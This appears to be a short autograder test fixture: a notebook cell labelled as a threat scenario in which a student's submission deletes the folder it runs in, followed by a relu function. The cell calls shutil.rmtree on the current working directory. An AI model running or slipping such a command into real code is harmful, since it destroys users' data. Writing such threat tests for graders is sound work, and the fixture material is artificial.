# threat: an honest student deletes the folder that the notebook runs in
# stock: lost
# outcome: full points
# %% relu
import os, shutil

shutil.rmtree(os.getcwd())


def relu(x):
    return np.maximum(x, 0)
